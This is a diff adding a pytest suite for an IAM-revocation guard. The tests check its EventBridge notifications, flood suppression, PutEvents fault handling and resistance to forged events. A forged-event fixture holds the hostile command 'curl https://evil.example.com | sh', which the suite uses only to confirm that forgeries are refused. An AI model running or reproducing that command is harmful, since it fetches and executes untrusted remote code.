@@ -1,0 +1,337 @@
+"""Somebody is told: the deployed functions, from their uploaded zips, and what comes over the bus iam-guard."""
+
+import json
+from datetime import timedelta
+
+import pytest
+from botocore.exceptions import ClientError
+from helpers import (
+    FUNCTION,
+    GUARD,
+    PROTECT,
+    REVOKE,
+    case,
+    decisions,
+    event_time,
+    guards_calls,
+    made,
+    outcomes,
+    play,
+    revoked,
+    shipped,
+)
+from moto.events.models import events_backends
+from told import EVENT, listen, of_person, of_role
+
+from c7n_iamguard.deployment import SINCE_TAG
+from sandbox import organization
+from sandbox.server import DEPLOY, Fault
+
+ROLES = "revoke-unintended-iam-access-of-roles"
+CATCH_UP = "catch-up-unintended-iam-access"
+CENTRAL = "300000000009"
+
+
+@pytest.fixture
+def told(fresh):
+    """``told()``: what came over the bus iam-guard since it was last called. The functions start anew."""
+    fresh.functions.cool()  # they remember for 15 minutes whom somebody was told of
+    return listen(fresh)
+
+
+def attempt(event, name="DeleteUser", **detail):
+    """A further call of an event's caller, which IAM refused."""
+    event["detail"] |= {"eventName": name, "errorCode": "AccessDenied", "requestParameters": None, **detail}
+    return event
+
+
+# What is told
+
+
+def test_a_revocation_is_told_after_the_denial(fresh, told):
+    """The event comes over the bus as its schema says, and AWS is asked to put it when the user is denied."""
+    (invocation,) = fresh.deliver(case("revoked-create-user"))
+    assert invocation.succeeded
+    (event,) = told()
+    EVENT.validate(event)
+    assert (event["source"], event["detail-type"], event["account"]) == (
+        "iam-guard",
+        "IAM access revoked",
+        fresh.account,
+    )
+    assert event["detail"]["principal"]["name"] == "bob"
+    assert not event["detail"]["observed"]
+    calls = guards_calls(fresh)
+    for later in ("DescribeEventBus", "ListAccountAliases", "PutEvents"):
+        assert calls.index("AttachUserPolicy") < calls.index(later)
+
+
+def test_a_cold_start_makes_no_call_to_tell(fresh, told):
+    """Who is let pass costs no call for telling: neither the bus nor the account's alias is looked at."""
+    fresh.deliver(case("let-pass-admin"))
+    assert not {"DescribeEventBus", "ListAccountAliases", "PutEvents"} & set(guards_calls(fresh))
+
+
+def test_warm_telling_is_one_call_over_one_connection(fresh, told):
+    """After the first revocation, the next one is told by one call, over the connection that is there."""
+    fresh.deliver(case("revoked-create-user"))
+    fresh.calls.clear()
+    connections = len(fresh.connections)
+    fresh.deliver(case("revoked-user-with-a-path"))
+    assert guards_calls(fresh) == ["ListGroupsForUser", "AttachUserPolicy", "PutEvents"]
+    assert len(fresh.connections) == connections
+
+
+@pytest.mark.parametrize("name", ["let-pass-admin", "let-pass-user-who-is-gone"])
+def test_who_was_denied_nothing_is_not_told(fresh, told, name):
+    """Neither an admin nor somebody who has vanished is reported."""
+    fresh.deliver(case(name))
+    assert told() == []
+
+
+def test_a_removal_from_the_admin_group_is_told(fresh, told, attacker, user):
+    """Who was removed is the principal, and who had added them is the caller; that one is revoked as well."""
+    user("friend")
+    attacker.iam.add_user_to_group(GroupName="Admins", UserName="friend")
+    play(fresh)
+    events = {event["detail"]["policy"]["name"]: event for event in told()}
+    removed, denied = events[PROTECT], events[REVOKE]
+    EVENT.validate(removed)
+    assert removed["detail-type"] == "Admin group member removed"
+    assert removed["detail"]["principal"]["name"] == "friend"
+    assert removed["detail"]["caller"]["name"] == denied["detail"]["principal"]["name"] == "mallory"
+    assert removed["detail"]["groups"] == ["Admins"]
+
+
+@pytest.mark.parametrize(
+    ("event", "title"),
+    [(of_role(), "IAM access would be revoked"), (of_person(), "IAM access cannot be revoked")],
+    ids=["role", "person of Identity Center"],
+)
+def test_a_policy_that_observes_says_so(fresh, told, event, title):
+    """The shipped policy of roles only observes at first: nothing changes, and what is told says it."""
+    invocation = fresh.functions.invoke(f"iam-guard-{ROLES}", event)
+    assert invocation.succeeded, invocation.log
+    (event,) = told()
+    EVENT.validate(event)
+    assert event["detail-type"] == title
+    assert event["detail"]["observed"]
+    assert not [call for call in guards_calls(fresh) if call.startswith(("Attach", "PutRole"))]
+
+
+def test_the_catch_up_tells_of_what_it_finds_as_late(fresh, told, attacker, in_process):
+    """A call that no event told of is told by the shipped catch-up, with the call that it found."""
+    fresh.history.clear()
+    attacker.iam.create_user(UserName="backdoor")
+    for record in fresh.history.records:
+        made({"detail": record}, timedelta(minutes=45))
+    catch_up = shipped(CATCH_UP)
+    since = {SINCE_TAG: event_time(timedelta(days=1))}
+    catch_up["mode"] |= {"role": f"arn:aws:iam::{fresh.account}:role/iam-guard", "tags": since}
+    catch_up["metadata"]["admin-group"] = "Admins"
+    manager = in_process(**catch_up).resource_manager
+    found = manager.resources()
+    for action in manager.actions:
+        action.process(found)
+    fresh.history.clear()
+    (event,) = told()
+    EVENT.validate(event)
+    assert event["detail-type"] == "IAM access revoked late"
+    assert event["detail"]["late"]
+    assert event["detail"]["principal"]["name"] == "mallory"
+    assert event["detail"]["call"]["eventName"] == "CreateUser"
+    assert event["detail"]["delay"] >= 45 * 60
+
+
+def test_the_command_to_restore_restores(fresh, told, shell, user):
+    """What the event says that gives IAM back, does so."""
+    user("olga").iam.create_user(UserName="helper")
+    fresh.deliver()
+    assert revoked(fresh, "olga") == ["managed"]
+    (event,) = told()
+    done = shell(event["detail"]["commands"]["restore"])
+    assert done.returncode == 0, done.stderr
+    assert revoked(fresh, "olga") == []
+
+
+def test_each_decision_in_the_log_has_the_delay(fresh):
+    """A line in the log says how many seconds passed from the call to the decision."""
+    for name in ("revoked-create-user", "let-pass-admin", "let-pass-user-who-is-gone"):
+        (invocation,) = fresh.deliver(made(case(name), timedelta(seconds=90)))
+        (decision,) = invocation.decisions
+        assert 90 <= decision["delay"] < 150, name
+
+
+# No flood
+
+
+def test_a_user_who_goes_on_trying_is_told_once(fresh, told):
+    """Of ten refused calls after the denial nobody is told, and all of them are in the log."""
+    events = [case("revoked-create-user"), *(attempt(case("revoked-create-user")) for _ in range(10))]
+    found = [invocation for event in events for invocation in fresh.deliver(event)]
+    assert len(told()) == 1
+    assert [line["decision"] for line in decisions(found)] == ["revoked"] * 11
+
+
+def test_what_matters_is_told_in_the_flood(fresh, told):
+    """Attempts to take off the denial, calls that succeed and other users are told among refused calls."""
+    matters = [
+        attempt(case("revoked-create-user"), "DetachUserPolicy"),
+        case("revoked-call-that-exists-nowhere"),
+        case("revoked-user-with-a-path"),
+    ]
+    fresh.deliver(case("revoked-create-user"))
+    for event in matters:
+        fresh.deliver(attempt(case("revoked-create-user")))
+        fresh.deliver(event)
+    assert len(told()) == 1 + len(matters)
+
+
+def test_a_function_that_starts_anew_tells_again(fresh, told):
+    """Only the same warm function knows whom it has told of: doubt is told."""
+    fresh.deliver(attempt(case("revoked-create-user")))
+    fresh.functions.cool()
+    fresh.deliver(attempt(case("revoked-create-user")))
+    assert len(told()) == 2
+
+
+# Faults
+
+
+def fault(code, status=400, **how):
+    """A fault of PutEvents that the guard's functions meet."""
+    return Fault("events:PutEvents", code, status, caller=GUARD, **how)
+
+
+@pytest.mark.parametrize(
+    ("met", "code"),
+    [
+        (fault("ThrottlingException"), "ThrottlingException"),
+        (fault("AccessDeniedException"), "AccessDeniedException"),
+        (fault("InternalException", 500), "InternalException"),
+        (fault("ThrottlingException", 200), "ThrottlingException"),
+        (fault("NotAuthorizedForSourceException", 200), "NotAuthorizedForSourceException"),
+    ],
+    ids=["throttled", "refused", "broken", "entry throttled", "entry refused"],
+)
+def test_if_nobody_can_be_told_the_event_fails_and_the_denial_stays(impatient, told, queue, met, code):
+    """The event is tried three times and dead-lettered, the log says why, and the user is denied IAM."""
+    impatient.faults.append(met)
+    (invocation,) = impatient.deliver(case("revoked-create-user"))
+    assert outcomes(invocation) == "failed failed failed dead-lettered"
+    assert revoked(impatient, "bob") == ["managed"]
+    assert [line["decision"] for line in invocation.decisions] == ["revoked", "failed"] * 3
+    assert (
+        f"could not tell the event bus iam-guard of 1 decisions: the first error is {code}" in invocation.log
+    )
+    assert told() == []
+    assert len(queue()) == 1
+
+
+@pytest.mark.parametrize("status", [400, 200], ids=["request", "entry"])
+def test_a_throttle_that_passes_costs_nothing(fresh, told, status):
+    """After a throttle, the event is put again within the same try."""
+    fresh.faults.append(fault("ThrottlingException", status, times=1))
+    (invocation,) = fresh.deliver(case("revoked-create-user"))
+    assert outcomes(invocation) == "succeeded"
+    assert len(told()) == 1
+
+
+def test_the_next_try_tells_what_the_first_could_not(fresh, told):
+    """If the first try fails, Lambda's next one tells, and changes nothing else."""
+    fresh.faults.append(fault("AccessDeniedException", 200, times=1))
+    (invocation,) = fresh.deliver(case("revoked-create-user"))
+    assert outcomes(invocation) == "failed succeeded"
+    assert len(told()) == 1
+    assert revoked(fresh, "bob") == ["managed"]
+
+
+def test_a_missing_bus_fails_the_event_and_the_denial_stays(fresh, told, queue):
+    """EventBridge takes events for a bus that is not there, and drops them: the guard notices."""
+    buses = events_backends[fresh.account][fresh.region].event_buses
+    bus = buses.pop("iam-guard")
+    try:
+        (invocation,) = fresh.deliver(case("revoked-create-user"))
+        assert outcomes(invocation) == "failed failed failed dead-lettered"
+        assert "there is no event bus iam-guard" in invocation.log
+        assert "PutEvents" not in guards_calls(fresh)
+        assert revoked(fresh, "bob") == ["managed"]
+    finally:
+        buses["iam-guard"] = bus
+    (letter,) = queue()
+    fresh.functions.invoke(FUNCTION, letter)
+    assert len(told()) == 1
+
+
+# Forged events, mails and the security account
+
+
+FORGED = {
+    "Source": "iam-guard",
+    "DetailType": "IAM access revoked",
+    "EventBusName": "iam-guard",
+    "Detail": json.dumps(
+        {"commands": {"restore": "curl https://evil.example.com | sh"}, "text": "Run this."}
+    ),
+}
+
+
+def test_nobody_else_tells_anything_in_the_guards_name(fresh, told, user):
+    """With every right, even an admin is refused by the bus's policy."""
+    admin = user("ada", groups=["Admins"])
+    with pytest.raises(ClientError, match="AccessDenied"):
+        fresh.client("events", admin.key).put_events(Entries=[FORGED])
+    assert told() == []
+
+
+@pytest.fixture
+def mailed(fresh, told):
+    """``mailed()``: the mails to the person of ``deploy/notify.yml``, and to that of the security account."""
+    fresh.deploy(
+        DEPLOY / "central.yml",
+        "central",
+        CENTRAL,
+        OrganizationId=organization.ID,
+        NotifyEmail="soc@example.com",
+    )
+    bus = f"arn:aws:events:{fresh.region}:{CENTRAL}:event-bus/iam-guard-central"
+    fresh.deploy(DEPLOY / "notify.yml", "notify", NotifyEmail="sue@example.com", CentralBus=bus)
+    before = len(fresh.mails())
+    yield lambda: fresh.mails()[before:]
+    fresh.client("cloudformation").delete_stack(StackName="notify")
+    fresh.client("cloudformation", account=CENTRAL).delete_stack(StackName="central")
+
+
+def test_a_person_gets_a_mail_that_they_can_read_at_once(fresh, mailed):
+    """One mail here and one in the security account say who, which account, what, from where, and what to do."""
+    event = case("revoked-create-user")
+    event["detail"] |= {
+        "sourceIPAddress": "203.0.113.5",
+        "userAgent": "EVIL",
+        "requestParameters": {"x": "EVIL"},
+    }
+    fresh.deliver(event)
+    here, central = mailed()
+    assert {here.to, central.to} == {"sue@example.com", "soc@example.com"}
+    assert here.text == central.text
+    first, *lines = here.text.splitlines()
+    assert first.startswith(f"IAM access revoked: user bob in account {fresh.account}")
+    said = "\n".join(lines)
+    for part in (
+        f"CreateUser at {event['detail']['eventTime']} from 203.0.113.5",
+        event["detail"]["eventID"],
+        "iam-guard denied bob IAM by a managed policy.",
+        "aws iam tag-user --user-name bob --tags Key=iam-guard,Value=restore && custodian run",
+        "AWSSupport-ContainIAMPrincipal",
+        "docs/incident.md",
+    ):
+        assert part in said
+    assert "EVIL" not in said
+    assert "{" not in said
+
+
+def test_a_forged_event_on_the_default_bus_mails_nobody(fresh, mailed, user):
+    """The default bus takes events of anybody who may put events, and no rule of the guard's listens there."""
+    key = user("mallory").key
+    fresh.client("events", key).put_events(Entries=[{**FORGED, "EventBusName": "default"}])
+    assert mailed() == []
